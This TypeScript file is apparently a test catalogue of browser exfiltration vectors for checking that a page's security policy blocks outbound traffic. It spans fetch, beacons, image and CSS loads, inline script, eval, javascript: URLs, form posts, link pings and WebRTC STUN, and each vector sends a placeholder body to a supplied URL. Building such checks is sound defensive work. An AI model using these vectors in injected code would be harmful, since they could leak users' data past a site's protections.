/** Ways in which code that has got into the page or a worker could try to send something elsewhere. */

/** Does its worst with an address elsewhere. Runs in the page or in a worker, so it may use nothing from around it. */
export type Attack = (url: string) => unknown;

/** What any scope can do. */
export const ATTACKS_ANYWHERE: Readonly<Record<string, Attack>> = {
  fetch: (url) => fetch(url),
  'fetch-no-cors': (url) => fetch(url, { method: 'POST', mode: 'no-cors', body: 'tissue' }),
  'fetch-keepalive': (url) => fetch(url, { method: 'POST', mode: 'no-cors', body: 'tissue', keepalive: true }),
  websocket: (url) => new WebSocket(url.replace('http', 'ws')),
  eventsource: (url) => new EventSource(url),
  import: (url) => import(url),
  webtransport: (url) => Reflect.construct(Reflect.get(globalThis, 'WebTransport'), [url.replace('http:', 'https:')]),
  xhr: (url) => {
    const request = new XMLHttpRequest();
    request.open('POST', url);
    request.send('tissue');
  },
};

export const ATTACKS_IN_WORKER: Readonly<Record<string, Attack>> = {
  'worker-of-worker': (url) => new Worker(url),
  'module-worker': (url) => new Worker(url, { type: 'module' }),
  'blob-worker': (url) => {
    const code = `fetch('${url}', { mode: 'no-cors' })`;
    return new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  },
};

export const ATTACKS_IN_PAGE: Readonly<Record<string, Attack>> = {
  beacon: (url) => navigator.sendBeacon(url, 'tissue'),
  image: (url) => {
    new Image().src = url;
  },
  srcset: (url) => {
    new Image().srcset = `${url} 2x`;
  },
  script: (url) => document.head.append(Object.assign(document.createElement('script'), { src: url })),
  'module-script': (url) =>
    document.head.append(Object.assign(document.createElement('script'), { src: url, type: 'module' })),
  'inline-script': (url) => {
    const script = document.createElement('script');
    script.textContent = `fetch('${url}', { mode: 'no-cors' })`;
    document.head.append(script);
  },
  'inline-handler': (url) => {
    const button = document.createElement('button');
    button.setAttribute('onclick', `fetch('${url}', { mode: 'no-cors' })`);
    button.click();
  },
  // biome-ignore lint/security/noGlobalEval: code that is injected does what it likes.
  eval: (url) => globalThis.eval(`fetch('${url}', { mode: 'no-cors' })`),
  'javascript-url': (url) => {
    location.href = `javascript:fetch('${url}', { mode: 'no-cors' })`;
  },
  html: (url) => document.body.insertAdjacentHTML('beforeend', `<img src="${url}">`),
  stylesheet: (url) =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url })),
  'style-import': (url) => {
    document.head.append(Object.assign(document.createElement('style'), { textContent: `@import "${url}";` }));
  },
  'style-image': (url) => {
    document.body.append(document.createElement('div'));
    document.body.setAttribute('style', `background: url("${url}")`);
  },
  font: (url) => new FontFace('stolen', `url("${url}")`).load(),
  prefetch: (url) =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: url })),
  preload: (url) =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: url })),
  modulepreload: (url) =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: url })),
  icon: (url) => document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: url })),
  frame: (url) => document.body.append(Object.assign(document.createElement('iframe'), { src: url })),
  object: (url) => document.body.append(Object.assign(document.createElement('object'), { data: url })),
  embed: (url) => document.body.append(Object.assign(document.createElement('embed'), { src: url })),
  video: (url) => document.body.append(Object.assign(document.createElement('video'), { src: url, preload: 'auto' })),
  audio: (url) => document.body.append(Object.assign(document.createElement('audio'), { src: url, preload: 'auto' })),
  'svg-image': (url) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', url);
    svg.append(image);
    document.body.append(svg);
  },
  'frame-fetch': (url) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return frame.contentWindow?.fetch(url, { mode: 'no-cors' });
  },
  'speculation-rules': (url) => {
    const script = document.createElement('script');
    script.type = 'speculationrules';
    script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [url] }] });
    document.head.append(script);
  },
  'foreign-worker': (url) => new Worker(url),
  'foreign-service-worker': (url) => navigator.serviceWorker.register(url),
};

/** Ways that leave the page or open another one. No policy governs them, but for forms: the page itself bars them. */
export const ATTACKS_BY_LEAVING: Readonly<Record<string, Attack>> = {
  form: (url) => {
    const form = Object.assign(document.createElement('form'), { action: url, method: 'post' });
    document.body.append(form);
    form.submit();
  },
  'form-elsewhere': (url) => {
    const form = Object.assign(document.createElement('form'), { action: url, method: 'post', target: '_blank' });
    document.body.append(form);
    form.submit();
  },
  open: (url) => window.open(url),
  link: (url) => {
    const link = Object.assign(document.createElement('a'), { href: url });
    document.body.append(link);
    link.click();
  },
  'link-elsewhere': (url) => {
    const link = Object.assign(document.createElement('a'), { href: url, target: '_blank' });
    document.body.append(link);
    link.click();
  },
  'link-ping': (url) => {
    const link = Object.assign(document.createElement('a'), { href: '#', ping: url });
    document.body.append(link);
    link.click();
  },
  location: (url) => {
    location.href = url;
  },
  replace: (url) => location.replace(url),
  'meta-refresh': (url) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0;url=${url}`;
    document.head.append(meta);
  },
};

/** Calls a server that says which addresses a machine has: packets, not requests. */
export async function askByWebRtc(host: string): Promise<void> {
  const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
  connection.createDataChannel('tissue');
  await connection.setLocalDescription(await connection.createOffer());
  await new Promise((resolve) => setTimeout(resolve, 1_000));
}
